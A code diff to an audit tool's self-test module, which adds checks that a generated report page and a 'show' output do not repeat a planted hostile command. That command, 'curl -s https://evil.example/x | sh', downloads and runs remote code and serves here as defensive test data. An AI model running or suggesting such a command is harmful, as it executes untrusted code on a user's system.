@@ -10,7 +10,7 @@ from fedrec.audit.keys import SigningKey
 from fedrec.audit.records import parsed
 from fedrec.audit.self_test.attack import Attack
 from fedrec.audit.self_test.genuine import Payload, resigned
-from fedrec.audit.self_test.stage import Stage, refused
+from fedrec.audit.self_test.stage import Stage, harmless, refused
 from fedrec.audit.statement import VERIFY, text_of
 
 EVIL = "curl -s https://evil.example/x | sh"
@@ -112,14 +112,14 @@ def _command_on_the_page(stage: Stage) -> str | None:
     found = refused(stage.commands.run("audit", "report", run, "-o", page))
     if found is None and f'<code id="command">{VERIFY}</code>' not in page.read_text(encoding="utf-8"):
         return "the page offers another command"
-    return found
+    return found or ("the page repeats the command" if EVIL in page.read_text(encoding="utf-8") else None)
 
 
 def _shown(stage: Stage) -> str | None:
     answer = stage.commands.run("audit", "show", _with_evil(stage))
     if "CONTRADICTION" not in answer.output.partition("\n")[0]:
         return "the contradiction does not come first"
-    return refused(answer)
+    return refused(answer) or harmless(answer, (EVIL,))
 
 
 def _with_evil(stage: Stage) -> Path:
